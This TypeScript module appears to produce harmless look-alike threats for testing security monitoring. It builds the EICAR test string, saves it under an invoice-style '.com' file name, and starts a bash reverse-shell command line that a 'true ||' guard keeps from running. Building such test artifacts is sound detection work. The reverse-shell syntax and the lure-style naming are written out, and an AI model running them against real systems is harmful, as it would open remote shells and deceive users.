/** Harmless things that look bad, made on this machine. */
import { spawn } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";

/** The anti-virus test string, put together at run time so that no file of the project contains it. */
export function eicarText(): string {
  const parts = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-", "ANTIVIRUS", "-TEST-FILE!", "$H+H*"];
  return parts.join("");
}

/** Writes the test file into a folder and says where it lies and what its hash is. */
export function writeEicar(folder: string): { path: string; sha256: string } {
  const path = join(folder, `invoice-${randomBytes(4).toString("hex")}.com`);
  const text = eicarText();
  writeFileSync(path, text);
  return { path, sha256: createHash("sha256").update(text).digest("hex") };
}

/**
 * Runs a reverse shell's command line whose dangerous half is never reached; it stays visible for some seconds. The marker tells it
 * from whatever else runs on this machine.
 */
export function runReverseShellLookalike(marker: string): Promise<void> {
  const script = `true || bash -i >& /dev/tcp/127.0.0.1/1 0>&1; sleep 3; : ${marker}`;
  return new Promise((resolve, reject) => {
    const child = spawn("bash", ["-c", script], { stdio: "ignore" });
    child.on("error", reject);
    child.on("exit", () => resolve());
  });
}
